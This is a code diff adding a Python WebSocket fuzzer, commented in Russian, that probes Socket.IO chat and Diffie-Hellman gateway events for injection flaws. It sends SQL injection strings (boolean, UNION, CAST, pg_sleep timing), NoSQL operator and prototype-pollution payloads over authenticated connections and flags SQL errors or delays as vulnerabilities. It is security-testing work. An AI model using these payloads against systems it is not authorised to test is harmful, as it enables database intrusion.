@@ -0,0 +1,319 @@
+#!/usr/bin/env python3
+"""
+WebSocket Fuzzer - Проверка событий Socket.IO шлюзов на инъекции
+Пул аутентифицированных соединений, наборы нагрузок для каждого поля события
+параллельно; без процесса SQLMap на событие
+"""
+
+import asyncio
+import json
+import logging
+import time
+import uuid
+from functools import partial
+from typing import Dict, List, Optional, Tuple
+
+from .dh_engine import generate_key_pairs
+from .prescreen import sql_error
+from .realtime_bench import jwt_subject
+from .socketio_client import SocketIOClient, SocketIOError
+
+logger = logging.getLogger(__name__)
+
+CHAT_NAMESPACE = '/'
+DH_NAMESPACE = '/diffie-hellman'
+NAMESPACES = (CHAT_NAMESPACE, DH_NAMESPACE)
+
+# События шлюзов: поля тела, ответы клиенту, событие-подготовка перед пробой
+EVENTS = [
+    {"gateway": "ChatGateway", "namespace": CHAT_NAMESPACE, "event": "joinChat",
+     "fields": ("chatId",), "replies": ("chatUsersUpdate",), "setup": None},
+    {"gateway": "ChatGateway", "namespace": CHAT_NAMESPACE, "event": "leaveChat",
+     "fields": ("chatId",), "replies": (), "setup": "joinChat"},
+    {"gateway": "DiffieHelmanGateWay", "namespace": DH_NAMESPACE, "event": "dh-join",
+     "fields": ("chatId",), "replies": ("dh-joined", "dh-error"), "setup": None},
+    {"gateway": "DiffieHelmanGateWay", "namespace": DH_NAMESPACE, "event": "dh-leave",
+     "fields": ("chatId",), "replies": ("dh-left",), "setup": "dh-join"},
+    {"gateway": "DiffieHelmanGateWay", "namespace": DH_NAMESPACE, "event": "dh-send",
+     "fields": ("chatId", "fromClientId", "toClientId", "publicKey", "stage"),
+     "replies": ("dh-sent", "dh-error"), "setup": "dh-join"},
+]
+EVENTS_BY_NAME = {spec['event']: spec for spec in EVENTS}
+
+# Ошибки обработчика: AllExceptionFilter шлет exception, GlobalWsExceptionFilter - error
+ERROR_EVENTS = ('exception', 'error')
+
+# Тело события без аргумента (emit без данных)
+MISSING = object()
+
+# Безобидное изменение поля: так шлюз реагирует на любое "чужое" значение
+CONTROL_SUFFIX = 'x'
+
+# Нагрузки для поля: (имя, значение, append - суффикс к исходному значению | replace - замена)
+PAYLOADS = [
+    ('quote', "'", 'append'),
+    ('dquote', '"', 'append'),
+    ('bool', "' OR '1'='1", 'append'),
+    ('union', "' UNION SELECT NULL--", 'append'),
+    ('cast', "'||CAST(version() AS int)||'", 'append'),
+    ('sleep', "';SELECT pg_sleep({time_sec})--", 'append'),
+    ('nul', '\u0000', 'append'),
+    ('operator', {'$ne': None}, 'replace'),
+    ('proto', {'__proto__': {'polluted': True}}, 'replace'),
+    ('array', ['x'], 'replace'),
+    ('number', 0, 'replace'),
+    ('null', None, 'replace'),
+    ('long', 'A' * 10000, 'replace'),
+]
+TIMING_PAYLOAD = 'sleep'
+
+# Нагрузки для тела события целиком (точка body)
+BODY_PAYLOADS = [
+    ('missing', MISSING),
+    ('null', None),
+    ('string', "'"),
+    ('array', []),
+    ('number', 0),
+]
+
+
+def mutate_field(message: Dict, field: str, value, mode: str) -> Dict:
+    """Копия сообщения с нагрузкой в одном поле"""
+    if mode == 'append':
+        original = message[field]
+        value = f"{original if isinstance(original, str) else json.dumps(original)}{value}"
+    return dict(message, **{field: value})
+
+
+def describe(event: str, data) -> str:
+    """Ответ для сравнения с контрольной пробой: событие и сообщение об ошибке"""
+    if event in ERROR_EVENTS or event.endswith('-error'):
+        message = data.get('message') or data.get('data') if isinstance(data, dict) else data
+        return f"{event}: {str(message)[:100]}"
+    return event
+
+
+class FuzzConnection:
+    """Соединение пула: оба namespace, собственный чат и очередь входящих событий
+
+    Каждое соединение работает в своем чате (случайный UUID) - широковещательные
+    ответы других соединений пула отфильтровываются по chatId.
+    """
+
+    def __init__(self, url: str, token: str, timeout: float):
+        self.client = SocketIOClient(url, token, timeout)
+        self.chat_id = str(uuid.uuid4())
+        self.events: List[Tuple[str, str, object, float]] = []
+        self.arrived = asyncio.Event()
+        for namespace in NAMESPACES:
+            self.client.on('*', partial(self._record, namespace), namespace)
+
+    def _record(self, namespace: str, event: str, *args):
+        self.events.append((namespace, event, args[0] if args else None, time.monotonic()))
+        self.arrived.set()
+
+    async def open(self) -> 'FuzzConnection':
+        await self.client.connect(NAMESPACES)
+        return self
+
+    def replies(self, spec: Dict, chat_ids: Tuple) -> List[Tuple[str, object, float]]:
+        """Ответы на событие spec: свой namespace, chatId отправленный или свой"""
+        replies = []
+        for namespace, event, data, arrived in self.events:
+            if namespace != spec['namespace'] or event == 'disconnect':
+                continue
+            if isinstance(data, dict) and 'chatId' in data and data['chatId'] not in chat_ids:
+                continue
+            replies.append((event, data, arrived))
+        return replies
+
+    async def exchange(self, spec: Dict, data, window: float) -> Dict:
+        """Отправка события и ответы до завершающего события или конца окна"""
+        terminal = set(spec['replies']) | set(ERROR_EVENTS)
+        chat_id = data.get('chatId') if isinstance(data, dict) else None
+        chat_ids = (self.chat_id, chat_id) if isinstance(chat_id, str) else (self.chat_id,)
+
+        self.events.clear()
+        started = time.monotonic()
+        try:
+            await self.client.emit(spec['event'], None if data is MISSING else data, spec['namespace'])
+        except (ConnectionError, OSError):
+            pass
+        deadline = started + window
+        while self.client.connected:
+            self.arrived.clear()
+            if any(event in terminal for event, _, _ in self.replies(spec, chat_ids)):
+                break
+            remaining = deadline - time.monotonic()
+            if remaining <= 0:
+                break
+            try:
+                await asyncio.wait_for(self.arrived.wait(), remaining)
+            except asyncio.TimeoutError:
+                break
+
+        replies = self.replies(spec, chat_ids)
+        finished = [arrived for event, _, arrived in replies if event in terminal]
+        return {
+            "replies": [(event, data) for event, data, _ in replies],
+            "signature": tuple(sorted({describe(event, data) for event, data, _ in replies})),
+            "elapsed": finished[0] - started if finished else None,
+            "disconnected": not self.client.connected,
+        }
+
+    async def close(self):
+        await self.client.close()
+
+
+class WsFuzzer:
+    """Фаззинг событий ChatGateway и DiffieHelmanGateWay
+
+    Для каждого поля события: контрольная проба и нагрузки из PAYLOADS, для
+    тела целиком - BODY_PAYLOADS. Аномалия - SQL-ошибка в ответе, задержка
+    ответа на pg_sleep, exception/error шлюза, которых нет на контрольной
+    пробе, разрыв соединения или другой набор ответов. Уязвимостью считаются
+    SQL-ошибка и задержка, остальные аномалии только попадают в отчет.
+    """
+
+    def __init__(self, url: str, token: str, connections: int = 8, timeout: float = 10.0,
+                 window: float = 2.0, time_sec: int = 5, limiter=None):
+        self.url = url
+        self.token = token
+        self.connections = max(1, connections)
+        self.timeout = timeout
+        self.window = window
+        self.time_sec = time_sec
+        self.limiter = limiter
+        self.user_id = jwt_subject(token) or str(uuid.uuid4())
+        self.public_key = generate_key_pairs(1)[0].public
+        self._pool: Optional[asyncio.Queue] = None
+
+    def _base_message(self, spec: Dict, connection: FuzzConnection) -> Dict:
+        """Корректное тело события: свой чат, свой userId отправителем и получателем"""
+        message = {
+            'chatId': connection.chat_id,
+            'fromClientId': self.user_id,
+            'toClientId': self.user_id,
+            'publicKey': self.public_key,
+            'stage': 1,
+        }
+        return {field: message[field] for field in spec['fields']}
+
+    async def _reconnect(self, connection: FuzzConnection) -> FuzzConnection:
+        await connection.close()
+        return await FuzzConnection(self.url, self.token, self.timeout).open()
+
+    async def _probe(self, connection: FuzzConnection, spec: Dict, data, window: float) -> Dict:
+        if spec['setup']:
+            # Leave и dh-send проверяются в чате/сессии, куда соединение только что вошло
+            setup = EVENTS_BY_NAME[spec['setup']]
+            await connection.exchange(setup, {'chatId': connection.chat_id}, self.window)
+        if self.limiter is not None:
+            await asyncio.get_running_loop().run_in_executor(None, self.limiter.acquire)
+        outcome = await connection.exchange(spec, data, window)
+        if self.limiter is not None and outcome['elapsed'] is not None:
+            self.limiter.observe(outcome['elapsed'])
+        return outcome
+
+    def _compare(self, point: str, probe: str, control: Dict, outcome: Dict) -> List[Dict]:
+        anomalies = []
+        control_text = json.dumps([data for _, data in control['replies']], default=str)
+        control_error = sql_error(control_text)
+        signature = sql_error(json.dumps([data for _, data in outcome['replies']], default=str))
+        if signature and signature != control_error:
+            anomalies.append({"point": point, "probe": probe, "reason": "sql-error", "detail": signature})
+        if (probe == TIMING_PAYLOAD and outcome['elapsed'] is not None and control['elapsed'] is not None
+                and outcome['elapsed'] - control['elapsed'] >= self.time_sec * 0.8):
+            anomalies.append({"point": point, "probe": probe, "reason": "timing",
+                              "detail": f"{control['elapsed']:.2f} с -> {outcome['elapsed']:.2f} с"})
+        if outcome['disconnected'] and not control['disconnected']:
+            anomalies.append({"point": point, "probe": probe, "reason": "disconnect",
+                              "detail": "шлюз закрыл соединение"})
+        if anomalies:
+            # Набор ответов при SQL-ошибке, задержке или разрыве заведомо другой
+            return anomalies
+        errors = [reply for reply in outcome['signature']
+                  if reply.split(':', 1)[0] in ERROR_EVENTS and reply not in control['signature']]
+        if errors:
+            anomalies.append({"point": point, "probe": probe, "reason": "exception", "detail": '; '.join(errors)})
+        elif outcome['signature'] != control['signature']:
+            anomalies.append({"point": point, "probe": probe, "reason": "response-diff",
+                              "detail": f"{', '.join(control['signature']) or 'нет ответа'} -> "
+                                        f"{', '.join(outcome['signature']) or 'нет ответа'}"})
+        return anomalies
+
+    async def _fuzz_point(self, spec: Dict, field: Optional[str]) -> Dict:
+        """Контрольная проба и все нагрузки одной точки на одном соединении пула"""
+        result = {"probes": 0, "anomalies": [], "error": None}
+        point = field or 'body'
+        connection = await self._pool.get()
+        try:
+            if not connection.client.connected:
+                connection = await self._reconnect(connection)
+            base = self._base_message(spec, connection)
+            if field is None:
+                control_data = base
+                payloads = [(name, value) for name, value in BODY_PAYLOADS]
+            else:
+                control_data = mutate_field(base, field, CONTROL_SUFFIX, 'append')
+                payloads = [(name, mutate_field(base, field, value.format(time_sec=self.time_sec)
+                                                if name == TIMING_PAYLOAD else value, mode))
+                            for name, value, mode in PAYLOADS]
+
+            control = await self._probe(connection, spec, control_data, self.window)
+            result["probes"] += 1
+            if control['disconnected']:
+                connection = await self._reconnect(connection)
+            for name, data in payloads:
+                window = self.window + self.time_sec if name == TIMING_PAYLOAD else self.window
+                outcome = await self._probe(connection, spec, data, window)
+                result["probes"] += 1
+                result["anomalies"] += self._compare(point, name, control, outcome)
+                if outcome['disconnected']:
+                    connection = await self._reconnect(connection)
+        except (SocketIOError, OSError, asyncio.TimeoutError) as e:
+            result["error"] = f"{point}: {e or type(e).__name__}"
+        finally:
+            self._pool.put_nowait(connection)
+        return result
+
+    async def fuzz(self) -> List[Dict]:
+        """Результат для каждого события EVENTS (в том же порядке)"""
+        self._pool = asyncio.Queue()
+        opened = await asyncio.gather(
+            *(FuzzConnection(self.url, self.token, self.timeout).open() for _ in range(self.connections)),
+            return_exceptions=True
+        )
+        connections = [c for c in opened if isinstance(c, FuzzConnection)]
+        failures = [c for c in opened if not isinstance(c, FuzzConnection)]
+        if not connections:
+            error = str(failures[0]) or type(failures[0]).__name__
+            logger.error(f"WS-фаззинг: не удалось подключиться к {self.url}: {error}")
+            return [dict(spec, probes=0, anomalies=[], error=error) for spec in EVENTS]
+        if failures:
+            logger.warning(f"WS-фаззинг: подключено {len(connections)} из {self.connections} соединений")
+        for connection in connections:
+            self._pool.put_nowait(connection)
+
+        points = [(spec, field) for spec in EVENTS for field in spec['fields'] + (None,)]
+        outcomes = await asyncio.gather(*(self._fuzz_point(spec, field) for spec, field in points))
+
+        results = {spec['event']: dict(spec, probes=0, anomalies=[], error=None) for spec in EVENTS}
+        for (spec, _), outcome in zip(points, outcomes):
+            result = results[spec['event']]
+            result['probes'] += outcome['probes']
+            result['anomalies'] += outcome['anomalies']
+            if outcome['error']:
+                result['error'] = '; '.join(filter(None, (result['error'], outcome['error'])))
+
+        while not self._pool.empty():
+            await self._pool.get_nowait().close()
+        return list(results.values())
+
+    def run(self) -> List[Dict]:
+        return asyncio.run(self.fuzz())
+
+
+def is_vulnerable(result: Dict) -> bool:
+    """Событие уязвимо: SQL-ошибка или задержка на pg_sleep"""
+    return any(anomaly['reason'] in ('sql-error', 'timing') for anomaly in result['anomalies'])